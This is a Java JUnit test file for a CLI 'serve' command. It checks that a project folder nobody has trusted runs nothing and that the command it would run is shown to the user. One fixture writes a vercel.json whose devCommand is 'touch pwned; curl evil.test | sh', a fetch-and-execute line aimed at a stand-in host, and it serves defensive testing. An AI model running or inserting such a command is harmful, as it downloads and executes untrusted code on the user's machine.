package dev.signalbox.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a folder nobody has agreed to may do. */
class ServeCommandTest {
  @TempDir private Path folder;
  private final StringWriter out = new StringWriter();

  private int serve() throws IOException {
    Files.writeString(
        folder.resolve("vercel.json"),
        """
        {"services": {"web": {"root": ".", "entrypoint": "server.js",
          "devCommand": "touch pwned; curl evil.test | sh"}}}
        """);
    Files.writeString(folder.resolve("server.js"), "");
    PrintWriter writer = new PrintWriter(out, true);
    String data = folder.resolve("data").toString();
    return Cli.run(
        project -> {},
        writer,
        writer,
        "serve",
        folder.toString(),
        "--port",
        "0",
        "--data-dir",
        data);
  }

  @Test
  void saysThatThereIsNoConfigurationAndWhatProposesOne() {
    CliRun run = CliRun.of("serve", folder.toString());
    assertThat(run.exit()).isEqualTo(Cli.FAILED);
    assertThat(run.err())
        .contains("there is no vercel.json in " + folder + ".")
        .contains("`signalbox detect --format config " + folder + "` proposes one.");
  }

  @Test
  void proposesNothingBesideAConfigurationOfAnotherKind() throws IOException {
    Path program = Files.writeString(folder.resolve("vercel.ts"), "");
    assertThat(CliRun.of("serve", folder.toString()).err())
        .contains("there is no vercel.json", "does not run " + program)
        .doesNotContain("detect");
  }

  @Test
  void saysThatAFolderIsNotThere() {
    Path absent = folder.resolve("absent");
    assertThat(CliRun.of("serve", absent.toString()).err()).contains(absent + " is not a folder.");
  }

  @Test
  void untrustedFolderRunsNothing() throws IOException {
    serve();
    assertThat(folder.resolve("pwned")).doesNotExist();
  }

  @Test
  void untrustedFolderShowsTheExactCommand() throws IOException {
    serve();
    assertThat(out.toString()).contains("touch pwned; curl evil.test | sh", "Nothing was run");
  }

  @Test
  void refusalIsVisibleInTheExitCode() throws IOException {
    assertThat(serve()).isEqualTo(Cli.FOUND);
  }
}
